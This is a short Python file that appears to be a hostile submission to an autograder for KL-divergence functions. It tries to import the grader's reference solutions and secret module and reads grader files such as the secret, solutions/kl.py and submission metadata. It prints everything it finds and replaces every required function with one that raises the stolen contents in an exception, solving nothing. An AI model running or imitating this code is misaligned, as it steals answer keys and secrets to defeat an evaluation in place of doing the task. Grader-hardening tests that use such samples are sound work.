"""Look for the reference by import (site-packages, the bundle's folder, the secret) and leak it:
print everything found and raise it in an exception from every function."""
import importlib
import sys

found = []
for extra in ("__ROOT__/source/grader", "__ROOT__/source", "/autograder/source/grader"):
    if extra not in sys.path:
        sys.path.append(extra)
for name in ("solutions", "solutions.kl", "solutions.npg", "autograder.suites.npg.cases", "autograder.engine.secret"):
    try:
        module = importlib.import_module(name)
        found.append(f"IMPORTED {name} from {getattr(module, '__file__', '?')}")
        with open(module.__file__) as fh:
            found.append(fh.read())
    except BaseException as exc:  # a hostile file swallows everything
        found.append(f"import {name} failed: {type(exc).__name__}")
for path in ("__ROOT__/source/grader/secret", "__ROOT__/source/grader/solutions/kl.py",
             "__ROOT__/source/grader/bundle.json", "__ROOT__/submission_metadata.json"):
    try:
        with open(path) as fh:
            found.append(f"READ {path}: " + fh.read())
    except OSError as exc:
        found.append(f"read {path} failed: {type(exc).__name__}")
LOOT = "\n".join(found)
print(LOOT)


def _leak(*args, **kwargs):
    raise RuntimeError("LOOT:\n" + LOOT)


kl_divergence = kl_bernoulli = kl_gaussian = policy_kl = _leak
